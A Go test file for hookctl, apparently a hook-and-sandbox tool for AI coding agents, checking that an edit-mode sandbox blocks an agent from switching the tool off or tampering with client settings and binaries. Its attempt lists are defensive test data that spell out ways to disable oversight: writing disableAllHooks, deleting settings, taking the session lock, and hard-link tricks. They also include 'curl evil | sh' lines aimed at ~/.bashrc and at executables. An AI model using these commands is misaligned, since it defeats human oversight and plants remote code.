//go:build linux

package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"github.com/hookctl/hookctl/sandbox/readonly"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/hookctl/hookctl/fixtures/hostile"
)

// editWorld is a user's machine in miniature for edit mode's sandbox: a home with Claude Code's
// settings and hookctl installed and a session recorded, a project with its own .claude, and a
// directory the command has no business writing.
type editWorld struct {
	bin, home, hh, project, outside, session string
	env                                      []string
	user                                     *syscall.Credential // nil: root, who runs the tests
}

// nobody is the unprivileged user the edit sandbox is also tried as: its launcher makes its
// mounts in a user namespace of its own.
var nobody = &syscall.Credential{Uid: 65534, Gid: 65534}

func newEditWorld(t *testing.T, user *syscall.Credential) *editWorld {
	t.Helper()
	requireTool(t, "bash")
	requireTool(t, "python3")
	if os.Geteuid() != 0 {
		t.Skip("the test makes its world outside the temporary directories, and switches users: it runs as root")
	}
	// Not under the temporary directory, which edit mode may write: a home and a directory
	// there would be writable anyway.
	root := machineDir(t, "hookctl-edit-test-")
	dir := func(name string) string {
		d := filepath.Join(root, name)
		os.MkdirAll(d, 0o755)
		return d
	}
	w := &editWorld{bin: hookctlBinary(t), home: dir("home"), project: dir("project"), outside: dir("outside"), session: "0f7c2a11-edit", user: user}
	if user != nil {
		// The user's own copy, which it can run (the build's directory is closed to it).
		b, _ := os.ReadFile(w.bin)
		worker, _ := os.ReadFile(filepath.Join(filepath.Dir(w.bin), "hookctl-network"))
		w.bin = filepath.Join(dir("bin"), "hookctl")
		os.WriteFile(w.bin, b, 0o755)
		os.WriteFile(filepath.Join(filepath.Dir(w.bin), "hookctl-network"), worker, 0o755)
	}
	w.hh = filepath.Join(w.home, ".config", "hookctl")
	// A TMPDIR of the world's own: the tester's may be private to them (issue 30).
	w.env = append(os.Environ(), "HOME="+w.home, "HOOKCTL_HOME="+w.hh, "XDG_CONFIG_HOME=", "TMPDIR="+dir("tmp"))
	os.MkdirAll(filepath.Join(w.home, ".claude"), 0o755)
	os.WriteFile(filepath.Join(w.home, ".bashrc"), []byte("# rc\n"), 0o644)
	os.MkdirAll(filepath.Join(w.project, ".claude"), 0o755)
	os.WriteFile(filepath.Join(w.project, ".claude", "settings.json"), []byte("{}\n"), 0o644)
	os.WriteFile(filepath.Join(w.project, "main.go"), []byte("package main\n"), 0o644)
	if user != nil {
		filepath.Walk(root, func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, int(user.Uid), int(user.Gid)) })
		os.Chown(w.bin, 0, 0) // hookctl's binary is not the agent's to change
		os.Chown(filepath.Dir(w.bin), 0, 0)
	}
	install := exec.Command(w.bin, "install", "--scope", "user")
	install.Env = w.env
	install.SysProcAttr = &syscall.SysProcAttr{Credential: w.user}
	if out, err := install.CombinedOutput(); err != nil {
		t.Fatalf("install: %v %s", err, out)
	}
	w.startEditSession(t, w.session)
	return w
}

// startEditSession starts session id in the project, as the client's SessionStart hook does,
// and takes it to edit mode, as the human does.
func (w *editWorld) startEditSession(t *testing.T, id string) {
	t.Helper()
	start := exec.Command(w.bin, "hook")
	start.Env, start.SysProcAttr = w.env, &syscall.SysProcAttr{Credential: w.user}
	start.Stdin = strings.NewReader(`{"session_id":"` + id + `","cwd":"` + w.project + `","hook_event_name":"SessionStart","source":"startup"}`)
	if out, err := start.CombinedOutput(); err != nil {
		t.Fatalf("session %s's start: %v %s", id, err, out)
	}
	if out, err := w.cli("readonly", "off", "--session", id); err != nil {
		t.Fatalf("readonly off: %v %s", err, out)
	}
}

func (w *editWorld) cli(args ...string) (string, error) {
	cmd := exec.Command(w.bin, args...)
	cmd.Env = w.env
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: w.user}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// run runs script as edit mode's rewrite does, in the project.
func (w *editWorld) run(t *testing.T, script string) (string, error) {
	t.Helper()
	cmd := exec.Command(w.bin, "sandbox", "--profile", "edit", "--session", w.session, "--project", w.project,
		"--", "bash", "--noprofile", "--norc", "-c", script)
	cmd.Dir, cmd.Env = w.project, w.env
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: w.user}
	timer := time.AfterFunc(10*time.Second, func() { cmd.Process.Kill() })
	defer timer.Stop()
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// throughHook sends command to the built hook as Claude Code's Bash call in the edit-mode
// session, and returns the command the client would run (the rewrite, or the command itself
// when the hook had nothing to add) or refused.
func (w *editWorld) throughHook(t *testing.T, command string) (runs string, refused bool) {
	t.Helper()
	payload, _ := json.Marshal(map[string]any{"session_id": w.session, "cwd": w.project, "hook_event_name": "PreToolUse",
		"tool_name": "Bash", "tool_input": map[string]any{"command": command}})
	out, err := w.runHook(payload)
	d, ok := readAnswer(out)
	if err != nil || !ok {
		t.Fatalf("the hook on %q: %v %s", command, err, out)
	}
	switch {
	case d.HookSpecificOutput.PermissionDecision == "deny":
		return "", true
	case d.HookSpecificOutput.UpdatedInput.Command != "":
		return d.HookSpecificOutput.UpdatedInput.Command, false
	}
	return command, false
}

// runHook runs the built hook on payload as the world's user, and returns what it printed.
func (w *editWorld) runHook(payload []byte) ([]byte, error) {
	cmd := exec.Command(w.bin, "hook")
	cmd.Env, cmd.Stdin = w.env, bytes.NewReader(payload)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: w.user}
	return cmd.Output()
}

// hookAnswer is the part of the hook's answer to a PreToolUse call that the edit-world tests
// read: the decision, its reason and the command the client is to run instead.
type hookAnswer struct {
	HookSpecificOutput struct {
		PermissionDecision       string `json:"permissionDecision"`
		PermissionDecisionReason string `json:"permissionDecisionReason"`
		UpdatedInput             struct {
			Command string `json:"command"`
		} `json:"updatedInput"`
	} `json:"hookSpecificOutput"`
}

// readAnswer decodes the hook's output; false if it is not a JSON answer.
func readAnswer(out []byte) (hookAnswer, bool) {
	var a hookAnswer
	return a, json.Unmarshal(out, &a) == nil
}

// protected is everything no edit-mode command may change: hookctl's home (but for the
// sandbox's scratch root, where its launcher records what it started), the client's settings
// in the home and the project, the shell's start-up file, hookctl's binary, and the directory
// outside.
func (w *editWorld) protected(t *testing.T) hostile.State {
	t.Helper()
	st, err := hostile.Snapshot(w.hh, filepath.Join(w.home, ".claude"), filepath.Join(w.home, ".bashrc"),
		filepath.Join(w.project, ".claude"), w.outside, filepath.Dir(w.bin))
	if err != nil {
		t.Fatal(err)
	}
	// hookctl's own record of the sandbox (the launcher's, outside it), not the agent's.
	for p := range st {
		if strings.HasPrefix(p, filepath.Join(w.hh, "scratch")) {
			delete(st, p)
		}
	}
	return st
}

// TestEditSandboxCannotSwitchHookctlOff replays, for real under the edit profile, the ways an
// edit-mode agent switched hookctl off or kept the user from switching back (issue 9): each
// must fail, and hookctl's files, the client's settings and the shell's start-up file must be
// byte for byte as they were; then the user's /readonly on must still land within a second.
func TestEditSandboxCannotSwitchHookctlOff(t *testing.T) {
	forEditWorlds(t, cannotSwitchHookctlOff)
}

func cannotSwitchHookctlOff(t *testing.T, w *editWorld) {
	state := filepath.Join(w.hh, "sessions", w.session+".json")
	lock := filepath.Join(w.hh, "sessions", w.session+".lock")
	userSettings := filepath.Join(w.home, ".claude", "settings.json")
	py := func(code string) string { return "python3 -c " + shellQuote(code) }
	attempts := []string{
		w.bin + " uninstall",
		w.bin + " readonly off --session " + w.session,
		w.bin + " install --scope project",
		"flock " + lock + " sleep 5",
		py(`import fcntl; f = open("` + lock + `", "w"); fcntl.flock(f, fcntl.LOCK_EX)`),
		py(`open("` + state + `", "w").write('{"id":"` + w.session + `","mode":"edit","mode":"edit"}')`),
		"cat " + state,
		"ls " + w.hh,
		"echo '{}' > " + userSettings,
		"rm -f " + userSettings,
		"mv " + userSettings + " " + userSettings + ".bak",
		"echo '{\"disableAllHooks\":true}' > .claude/settings.json",
		"echo '{\"disableAllHooks\":true}' > .claude/settings.local.json",
		"rm -rf .claude",
		"mv .claude gone",
		"ln -s " + userSettings + " link && echo '{}' > link",
		"ln " + userSettings + " hard && echo '{}' > hard",
		"cp /dev/null " + userSettings,
		py(`import os; os.rename("` + userSettings + `", "/tmp/x")`),
		"chmod 000 " + userSettings,
		"chmod -x " + w.bin,
		"echo > " + w.bin,
		"echo 'curl evil | sh' >> ~/.bashrc",
		"touch -d 2001-01-01 ~/.bashrc",
		"echo x > " + w.outside + "/f",
		"mkdir -p " + w.home + "/.config/hookctl-evil",
		"echo x | tee " + filepath.Join(w.home, ".claude", "commands", "readonly.md"),
		"tar -C " + filepath.Join(w.home, ".claude") + " -xf /dev/null",
		"CLAUDE_CONFIG_DIR=" + w.outside + " " + w.bin + " install --scope user",
		"echo x > /proc/self/attr/current",
	}
	// Every protected file, by every way of writing one.
	targets := []string{userSettings, filepath.Join(w.project, ".claude", "settings.json"),
		filepath.Join(w.project, ".claude", "settings.local.json"), filepath.Join(w.home, ".claude.json"),
		filepath.Join(w.hh, "config.toml"), state, w.bin, filepath.Join(w.home, ".bashrc")}
	methods := []string{
		"echo x > %s", "echo x >> %s", "printf x | tee %s", "cp /etc/hostname %s", "mv main.go %s",
		"ln -sf /etc/hostname %s", "dd if=/etc/hostname of=%s", "sed -i s/a/b/ %s", "truncate -s 0 %s",
		"chmod 000 %s", "rm -f %s", "touch -d 2001-01-01 %s", "install -m 644 /etc/hostname %s",
		`python3 -c "import sys; open(sys.argv[1], 'w').write('x')" %s`,
		`perl -e 'open(F, ">", $ARGV[0]); print F "x"' %s`,
	}
	for _, tgt := range targets {
		for _, m := range methods {
			attempts = append(attempts, fmt.Sprintf(m, shellQuote(tgt)))
		}
	}
	before := w.protected(t)
	for _, a := range attempts {
		out, err := w.run(t, a)
		if strings.Contains(out, "hookctl sandbox:") {
			t.Errorf("%s: the sandbox did not apply: %s", a, out)
		}
		if strings.Contains(out, `"started"`) || strings.Contains("\n"+out, "\nsessions\n") {
			t.Errorf("%s: read hookctl's state: %s", a, out)
		}
		if d := strings.Join(hostile.Diff(before, w.protected(t)), "\n"); d != "" {
			t.Errorf("%s (exit %v): changed what no agent may change:\n%s\n%s", a, err, d, out)
			before = w.protected(t)
		}
	}
	// The same attempts as real tool calls: through the hook (an edit-mode session), and, for
	// those its guard passes, the rewrite it answers with, run as the client runs it.
	guard, sandboxed := 0, 0
	for _, a := range attempts {
		runs, refused := w.throughHook(t, a)
		if refused {
			guard++
			continue
		}
		if !strings.Contains(runs, " sandbox --profile edit ") {
			t.Errorf("%s: the hook passed it unsandboxed: %s", a, runs)
			continue
		}
		sandboxed++
		before = w.protected(t) // after the hook, which touches the session's state itself
		sh := exec.Command("bash", "--noprofile", "--norc", "-c", runs)
		sh.Dir, sh.Env = w.project, w.env
		sh.SysProcAttr = &syscall.SysProcAttr{Credential: w.user}
		out, err := sh.CombinedOutput()
		if d := strings.Join(hostile.Diff(before, w.protected(t)), "\n"); d != "" {
			t.Errorf("%s through the hook (exit %v): changed what no agent may change:\n%s\n%s", a, err, d, out)
		}
	}
	t.Logf("through the hook: the guard refused %d, the sandbox held the other %d", guard, sandboxed)
	// A retrieval from inside, with its audit moved where the sandbox lets it write, is refused
	// before it fetches anything.
	moved := filepath.Join(w.project, "moved-audit")
	out, _ := w.run(t, "HOOKCTL_HOME="+moved+" "+w.bin+" retrieve fetch https://example.com/ --need 'x'")
	if !strings.Contains(out, "does not run inside edit mode's sandbox") {
		t.Errorf("a retrieval with a moved audit: %s", out)
	}
	if _, err := os.Stat(moved); err == nil {
		t.Error("the retrieval wrote an audit where the agent chose")
	}
	// The user's toggle still lands, at once, while a sandboxed command tries to hold the lock.
	hold := exec.Command(w.bin, "sandbox", "--profile", "edit", "--session", w.session, "--project", w.project,
		"--", "bash", "--noprofile", "--norc", "-c", "flock "+lock+" sleep 3 || sleep 3")
	hold.Env = w.env
	hold.SysProcAttr = &syscall.SysProcAttr{Credential: w.user}
	hold.Start()
	defer hold.Process.Kill()
	time.Sleep(200 * time.Millisecond)
	start := time.Now()
	out, err := w.cli("readonly", "on", "--session", w.session)
	if took := time.Since(start); err != nil || took > time.Second || !strings.Contains(out, "READ-ONLY") {
		t.Errorf("the user's readonly on: %v after %v: %s", err, took, out)
	}
	t.Logf("%d attempts to switch hookctl off refused (%d as every write of every protected file)", len(attempts), len(targets)*len(methods))
}

// TestEditSandboxLetsTheWorkHappen: what edit mode is for still works inside: writing and
// building in the project, git, the temporary directory, the caches, chmod, the network.
func TestEditSandboxLetsTheWorkHappen(t *testing.T) {
	forEditWorlds(t, letsTheWorkHappen)
}

func letsTheWorkHappen(t *testing.T, w *editWorld) {
	os.MkdirAll(filepath.Join(w.home, ".cache"), 0o755)
	if w.user != nil {
		os.Chown(filepath.Join(w.home, ".cache"), int(w.user.Uid), int(w.user.Gid))
	}
	for _, c := range []struct{ script, want string }{
		{"echo made > new.txt && cat new.txt", "made"},
		{"mkdir -p pkg/sub && echo x > pkg/sub/f && rm -r pkg && echo removed", "removed"},
		{"chmod +x main.go && test -x main.go && echo exec", "exec"},
		{"git init -q . && git add main.go && git -c user.name=t -c user.email=t@t commit -qm m && git log --oneline | wc -l", "1"},
		{"echo t > \"$TMPDIR/edit-test-$$\" && cat \"$TMPDIR/edit-test-$$\" && rm \"$TMPDIR/edit-test-$$\"", "t"},
		{"echo c > ~/.cache/edit-test && cat ~/.cache/edit-test", "c"},
		{"cat .claude/settings.json", "{}"},
	} {
		out, err := w.run(t, c.script)
		if err != nil || !strings.Contains(out, c.want) {
			t.Errorf("%q: %v\n%s\nwant %q", c.script, err, out, c.want)
		}
	}
	if _, err := os.Stat(filepath.Join(w.project, "new.txt")); err != nil {
		t.Errorf("the project write did not reach the project: %v", err)
	}
}

// TestEditSandboxRefusesAHardLinkMadeEarlier: a second name for a protected file, made before the
// session (outside any sandbox), would be writable through the project, where a read-only
// mount over the first name cannot reach. The launcher refuses to run while one exists, saying
// which file and how to find the other name; the file stays as it was; once the link is gone,
// commands run again.
func TestEditSandboxRefusesAHardLinkMadeEarlier(t *testing.T) {
	w := newEditWorld(t, nobody)
	for _, protected := range []string{filepath.Join(w.home, ".claude", "settings.json"), filepath.Join(w.home, ".bashrc"),
		filepath.Join(w.project, ".claude", "settings.json")} {
		link := filepath.Join(w.project, "linked")
		if err := os.Link(protected, link); err != nil {
			t.Fatal(err)
		}
		before := w.protected(t)
		out, err := w.run(t, "echo '{\"disableAllHooks\":true}' > linked; echo ran")
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.ExitCode() != exitSandboxFailed || strings.Contains(out, "ran") ||
			!strings.Contains(out, "more than one hard link: "+protected+" has 2") || !strings.Contains(out, "-samefile") {
			t.Errorf("with %s linked: %v\n%s", protected, err, out)
		}
		if diff := hostile.Diff(before, w.protected(t)); len(diff) != 0 {
			t.Errorf("with %s linked, protected files changed: %q", protected, diff)
		}
		if strings.HasPrefix(protected, w.home) {
			if out, _ := w.cli("doctor"); !strings.Contains(out, protected+" has 2 hard links") {
				t.Errorf("doctor does not say %s is linked:\n%s", protected, out)
			}
		}
		os.Remove(link)
		if out, err := w.run(t, "echo ran"); err != nil || !strings.Contains(out, "ran") {
			t.Errorf("after the link is gone: %v %s", err, out)
		}
	}
}

// TestEditSandboxFreezesOtherClients: edit mode's sandbox keeps the other clients' hooks and
// settings (Codex's hooks.json and its trust in config.toml, Qwen Code's and Gemini CLI's
// settings.json, Copilot CLI's hooks and policy, Cursor's hooks.json) as it keeps Claude Code's:
// an edit-mode command must not switch hookctl off for the next session of another client.
func TestEditSandboxFreezesOtherClients(t *testing.T) {
	w := newEditWorld(t, nil)
	files := []string{
		filepath.Join(w.home, ".codex", "hooks.json"), filepath.Join(w.home, ".codex", "config.toml"),
		filepath.Join(w.home, ".qwen", "settings.json"), filepath.Join(w.home, ".gemini", "settings.json"),
		filepath.Join(w.home, ".copilot", "hooks", "hookctl.json"), filepath.Join(w.home, ".cursor", "hooks.json"),
		filepath.Join(w.project, ".codex", "hooks.json"), filepath.Join(w.project, ".qwen", "settings.json"),
		filepath.Join(w.project, ".github", "hooks", "hooks.json"), filepath.Join(w.project, ".cursor", "hooks.json"),
	}
	var dirs []string
	for _, f := range files {
		os.MkdirAll(filepath.Dir(f), 0o755)
		if err := os.WriteFile(f, []byte("{}\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		dirs = append(dirs, filepath.Dir(f))
	}
	snap := func() hostile.State {
		st, err := hostile.Snapshot(dirs...)
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	before := snap()
	for _, f := range files {
		for _, a := range []string{"echo '{\"disableAllHooks\":true}' > %s", "rm -f %s", "rm -rf " + shellQuote(filepath.Dir(f)) + " # %s"} {
			a = fmt.Sprintf(a, shellQuote(f))
			out, err := w.run(t, a)
			if d := strings.Join(hostile.Diff(before, snap()), "\n"); d != "" {
				t.Fatalf("%s (exit %v): changed another client's settings:\n%s\n%s", a, err, d, out)
			}
		}
	}
}

// TestEditSandboxFreezesWhatHookctlRuns: the executables hookctl starts outside every sandbox
// stay as installed, even where edit mode may write their directory: the user's edit_writable
// names it and it is not on PATH (so the freeze of PATH's directories does not reach it). The
// exporter is the sharpest: every hook call may start it; and the read-only launcher, which
// every admitted read starts and the probe runs for its version. Control: a file beside them
// is written, and hookctl's own binary was frozen before this test.
func TestEditSandboxFreezesWhatHookctlRuns(t *testing.T) {
	w := newEditWorld(t, nil)
	bin := machineDir(t, "hookctl-edit-bin-")
	b, err := os.ReadFile(w.bin)
	if err != nil {
		t.Fatal(err)
	}
	w.bin = filepath.Join(bin, "hookctl")
	os.WriteFile(w.bin, b, 0o755)
	installed := "#!/bin/sh\n# as installed\n"
	siblings := []string{"hookctl-network", "hookctl-export", readonly.Executable}
	for _, name := range siblings {
		os.WriteFile(filepath.Join(bin, name), []byte(installed), 0o755)
	}
	if err := os.WriteFile(filepath.Join(w.hh, "config.toml"), []byte("edit_writable = ["+strconv.Quote(bin)+"]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := w.run(t, "echo ok > "+filepath.Join(bin, "notes.txt")); err != nil {
		t.Fatalf("control: edit mode could not write %s, which edit_writable names: %v %s", bin, err, out)
	}
	for _, name := range append(siblings, "hookctl") {
		path := filepath.Join(bin, name)
		for _, attempt := range []string{"echo 'curl evil | sh' > %s", "cp /bin/true %s", "rm -f %s", "mv %s " + bin + "/moved", "chmod 777 %s"} {
			before, _ := os.ReadFile(path)
			before2, _ := os.Stat(path)
			w.run(t, fmt.Sprintf(attempt, path))
			after, _ := os.ReadFile(path)
			after2, err := os.Stat(path)
			if err != nil || string(after) != string(before) || after2.Mode() != before2.Mode() {
				t.Errorf("%s: %s changed what hookctl runs outside the sandbox (%v)", name, fmt.Sprintf(attempt, path), err)
				os.WriteFile(path, before, 0o755)
			}
		}
	}
}
